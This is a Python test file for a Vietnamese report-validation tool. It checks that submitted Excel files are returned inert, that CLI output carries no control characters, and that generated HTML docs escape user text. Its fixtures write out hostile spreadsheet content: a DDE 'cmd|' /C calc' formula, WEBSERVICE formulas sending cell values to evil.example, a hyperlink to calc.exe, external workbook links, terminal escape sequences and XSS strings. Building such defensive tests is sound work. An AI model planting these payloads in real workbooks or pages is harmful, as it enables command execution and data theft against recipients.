"""What we hand back is inert: the annotated copy carries the sender's values without their formulas, links or
names; Data Docs show typed text as text; the CLI prints no control character a sender slipped in."""

from __future__ import annotations

import datetime as dt
import html
import io
import json
import re
import unicodedata
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink, ExternalSheetNames
from openpyxl.worksheet.datavalidation import DataValidation

from tests.conftest import DISTRICT, PERIOD, ROOT
from tests.hostile import Factory, _sheet_part, _zip_edit, with_formula
from tonghop.annotate import FINDINGS_SHEET
from tonghop.cli import json_text, main, plain
from tonghop.findings import load_catalogue
from tonghop.inbox import InboxFile
from tonghop.parse import read_report
from tonghop.spec import load_spec
from tonghop.validate import BatchValidator

ID_SHEET, HH_SHEET, NOTES = "A. Thông tin chung", "B. Hộ nghèo", "Ghi chú"
EVIL = "http://evil.example/"
# What the sender's formulas and links look like: none of it may reach the copy.
ACTIVE = ("WEBSERVICE", "HYPERLINK", "cmd|", "[1]", "evil.example", "file://")
NAME = "Nguyễn Thị Hằng"
# Typed into the phone cell: C1 CSI (ESC [ to some terminals), DEL, line and paragraph separators, a bidi
# override, a carriage return. (A cell cannot hold ESC or BEL; the file name carries those.)
PHONE = "0912\x9b2J\u2028345\u202e\x7f678\r9"
FILE_NAME = "bao\x1b[2Jcao\x07\r\u2028\u202ephuong.xlsx"
XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")


def _unsafe(text: str) -> list[str]:
    """Characters a terminal would act on, other than our line breaks."""
    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")]


def _hostile_parts(wb) -> None:
    """What a sender's Excel file can carry besides values: hyperlinks (one to a local program), a formula
    without a cached value, a reference into another workbook and that workbook's external link part, names
    that are formulas or point elsewhere (and one that is a plain range, which may stay), a data validation
    and a conditional format that call out."""
    wb[ID_SHEET]["C15"].hyperlink = EVIL + "phish"
    notes = wb.create_sheet(NOTES)
    notes["A1"] = f'=WEBSERVICE("{EVIL}leak")'
    notes["A2"] = "Tài liệu"
    notes["A2"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    notes["A3"] = "=[1]Data!A1"
    notes["B2"] = 5
    dv = DataValidation(type="custom", formula1=f'ISNUMBER(WEBSERVICE("{EVIL}dv"))')
    notes.add_data_validation(dv)
    dv.add("B2")
    notes.conditional_formatting.add("A1:B3", FormulaRule(formula=[f'ISNUMBER(WEBSERVICE("{EVIL}cf"))'],
                                                          fill=PatternFill("solid", fgColor="FFFFFF")))
    link = ExternalLink(externalBook=ExternalBook(sheetNames=ExternalSheetNames(sheetName=["Data"]), id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target="file:///C:/evil/other.xlsx", TargetMode="External")
    wb._external_links.append(link)
    wb.defined_names.add(DefinedName("NgoaiVung", attr_text="[1]Data!$A$1"))
    wb.defined_names.add(DefinedName("Goi", attr_text=f'WEBSERVICE("{EVIL}name")'))
    wb.defined_names.add(DefinedName("VungHoNgheo", attr_text=f"'{HH_SHEET}'!$D$5:$D$9"))
    notes.defined_names["Lenh"] = DefinedName("Lenh", attr_text="cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def hostile(hierarchy, period) -> tuple[bytes, dict]:
    """A commune's report with an error (so it gets an annotated copy) whose cells hold the sender's formulas
    with cached values, as Excel saves them: DDE over a count, WEBSERVICE over the households total,
    HYPERLINK over the preparer's name."""
    commune = hierarchy.reporting_units(DISTRICT)[0].code
    factory = Factory(hierarchy, period)
    values = factory.parts(commune)[0]
    content = factory.xlsx(commune, edit=lambda v, p: v.update(poor_merit=-3, preparer_name=NAME,
                                                               preparer_phone=PHONE), wb_edit=_hostile_parts)
    content = with_formula(content, HH_SHEET, "D7", "cmd|' /C calc'!A0")
    content = with_formula(content, HH_SHEET, "D5", f'WEBSERVICE("{EVIL}?n="&amp;D7)')
    content = _text_formula(content, ID_SHEET, "C15", f'HYPERLINK("{EVIL}x","{NAME}")', NAME)
    with zipfile.ZipFile(io.BytesIO(content)) as z:  # the input really carries all of it
        assert "xl/externalLinks/externalLink1.xml" in z.namelist()
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert all(s in sheets for s in ("<f>cmd|", "<f>WEBSERVICE", "<f>HYPERLINK", "<hyperlink "))
    return content, {"D5": values["total_households"], "D7": values[_key_at(HH_SHEET, "D7")]}


def _text_formula(content: bytes, sheet: str, cell: str, formula: str, cached: str) -> bytes:
    """The text cell becomes a formula with its cached text, as Excel saves one (`t="str"`)."""
    part = _sheet_part(content, sheet)

    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        new = f'<c r="{cell}"\\1 t="str"><f>{html.escape(formula, quote=False)}</f><v>{html.escape(cached)}</v></c>'
        return re.sub(rf'<c r="{cell}"( s="[0-9]+")? t="inlineStr">.*?</c>'.encode(), new.encode(), data, count=1)

    return _zip_edit(content, edit)


def _key_at(sheet: str, cell: str) -> str:
    return next(f.key for f in load_spec().fields if f.sheet == sheet and f.cell == cell)


def _template_formulas() -> dict[tuple[str, str], str]:
    from tonghop.config import Settings
    from tonghop.self_check import self_check_formulas

    spec = load_spec()
    out = {}
    for section in spec.sections:
        out.update({(section.sheet, c): f for c, f, _ in section.formula_cells()})
        out.update({(section.sheet, f.cell): f.formula for f in section.fields if f.formula})
    # The self-check sheet's verdicts (tonghop.self_check) stay live in the marked copy too.
    out.update({(spec.self_check["sheet"], cell): f
                for cell, f in self_check_formulas(spec, Settings.from_env().expectations_dir).items()})
    return out


def _sheet_parts(content: bytes) -> dict[str, str]:
    wb = load_workbook(io.BytesIO(content), read_only=True)
    try:
        return {ws.title: ws._worksheet_path.lstrip("/") for ws in wb.worksheets}
    finally:
        wb.close()


_FORMULA = re.compile(r'<c r="([A-Z]+[0-9]+)"[^>]*>(?:(?!</c>).)*?<f(?:\s[^>]*)?(?:/>|>(.*?)</f>)', re.DOTALL)


def assert_inert(copy: bytes, cached: dict) -> None:
    with zipfile.ZipFile(io.BytesIO(copy)) as z:
        names = z.namelist()
        parts = {n: z.read(n).decode("utf-8") for n in names if n.endswith((".xml", ".rels", ".vml"))}
    assert not [n for n in names if n.startswith(("xl/externalLinks/", "xl/charts/", "xl/pivot", "xl/tables/"))]
    assert not [n for n, text in parts.items() if 'TargetMode="External"' in text]
    for active in ACTIVE:
        assert not [n for n, text in parts.items() if active in html.unescape(text)], active
    names_xml = re.findall(r'<definedName [^>]*name="([^"]+)"', parts["xl/workbook.xml"])
    assert "VungHoNgheo" in names_xml and not {"NgoaiVung", "Goi", "Lenh"} & set(names_xml)

    ours, restored = _template_formulas(), 0
    for sheet, part in _sheet_parts(copy).items():
        xml = parts[part]
        formulas = {(sheet, cell): html.unescape(text or "") for cell, text in _FORMULA.findall(xml)}
        if sheet == FINDINGS_SHEET:
            assert not formulas
            links = re.findall(r"<hyperlink [^>]*>", xml)
            assert links and all("location=" in h and "r:id" not in h for h in links)
            continue
        # The sender's sheets: no hyperlinks; a formula only where our template has one, and exactly ours.
        assert "<hyperlink" not in xml, sheet
        assert "conditionalFormatting" not in xml, sheet
        for where, text in formulas.items():
            assert "=" + text == ours.get(where), (where, text)
        restored += len(formulas)
    assert restored, "our template's own formulas keep the totals live"

    wb = load_workbook(io.BytesIO(copy))
    assert wb._external_links == []
    assert wb[HH_SHEET]["D5"].value == cached["D5"] and wb[HH_SHEET]["D7"].value == cached["D7"]
    assert wb[ID_SHEET]["C15"].value == NAME
    notes = wb[NOTES]
    assert (notes["A1"].value, notes["A2"].value, notes["A3"].value, notes["B2"].value) == (None, "Tài liệu", None, 5)
    assert not notes.data_validations.dataValidation
    for ws in wb.worksheets:
        links = [c.hyperlink for row in ws.iter_rows() for c in row if c.hyperlink]
        if ws.title == FINDINGS_SHEET:
            assert links and all(not h.target and h.location.startswith("'") for h in links)
        else:
            assert not links, ws.title
    listing = [v for row in wb[FINDINGS_SHEET].iter_rows(min_row=6, values_only=True) for v in row]
    assert not [v for v in listing if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]


def test_check_annotates_an_inert_copy_and_prints_no_control_characters(settings, hostile, tmp_path, capsys):
    content, cached = hostile
    path = tmp_path / FILE_NAME
    path.write_bytes(content)
    out = tmp_path / "annotated"
    assert main(["check", str(path), "--annotate", str(out)]) == 1
    text = capsys.readouterr().out
    assert "BỊ TỪ CHỐI" in text and "TH-F-004" in text and "TH-F-009" in text
    assert _unsafe(text) == [], _unsafe(text)
    lines = text.splitlines()  # the file name's ESC, BEL, CR, U+2028 and bidi override became "?" or spaces
    assert lines[0].startswith(str(tmp_path / "bao?[2Jcao?  ?phuong.xlsx: BỊ TỪ CHỐI")), lines[0]
    assert all(line.startswith("  ") for line in lines[1:]), lines
    (copy,) = out.glob("*.xlsx")
    assert_inert(copy.read_bytes(), cached)

    # JSON keeps the values exact, and escapes what json.dumps alone would leave raw (C1, U+2028, bidi).
    assert main(["check", str(path), "--format", "json"]) == 1
    raw = capsys.readouterr().out
    assert _unsafe(raw) == []
    (report,) = json.loads(raw)
    assert report["file"] == str(path) and report["outcome"] == "rejected"


def test_terminal_text_and_json_escaping():
    assert plain("a\x1b[31mb\r\nc\u2028d\u202ee\x07\x9b\tf") == "a?[31mb  c d?e?? f"
    value = {"k": "a\x1b\x7f\x9b\u2028\u202e\U000e0041 Đồng Tháp"}
    text = json_text(value)
    assert _unsafe(text) == [] and json.loads(text) == value and "Đồng Tháp" in text


def test_data_docs_show_typed_text_as_text(hierarchy, period, tmp_path):
    spec, catalogue = load_spec(), load_catalogue(ROOT / "expectations")
    factory = Factory(hierarchy, period)
    items = []
    for i, unit in enumerate(hierarchy.reporting_units(DISTRICT)[:2]):
        content = factory.xlsx(unit.code, edit=lambda v, p: v.update(
            preparer_name=XSS[0], preparer_email=XSS[1] + "@x", preparer_phone=XSS[0] + " & " + XSS[1]))
        sid = f"s{i}"
        item = InboxFile(key=f"{PERIOD}/83/{unit.code}/x.xlsx", period_id=PERIOD, province_code="83",
                         submitted_for=unit.code, received_at=period.commune_deadline - dt.timedelta(days=1),
                         size=len(content))
        items.append((item, read_report(content, sid, item.file_name, spec, catalogue)))
    validator = BatchValidator(spec, hierarchy, ROOT / "expectations")
    result = validator.validate(period, items, docs_dir=tmp_path / "docs")
    assert {"TH-F-009", "TH-F-010"} <= {f.check_id for f in result.findings}
    # The findings are built from the results GX returned, not from the escaped copies the docs show.
    assert any(XSS[1] in (f.value or "") for f in result.findings)
    pages = {p: p.read_text(encoding="utf-8") for p in (tmp_path / "docs").rglob("*.html")}
    assert result.docs_index in pages and len(pages) > 2
    for page, text in pages.items():
        assert "<script>alert" not in text and "<img src=x" not in text, page
        assert "&amp;lt;" not in text and "&amp;amp;" not in text, page  # escaped once, not twice
    shown = "".join(pages.values())
    assert html.escape(XSS[0]) in shown and html.escape(XSS[1]) in shown
    assert html.escape(f"{XSS[0]} & {XSS[1]}") in shown
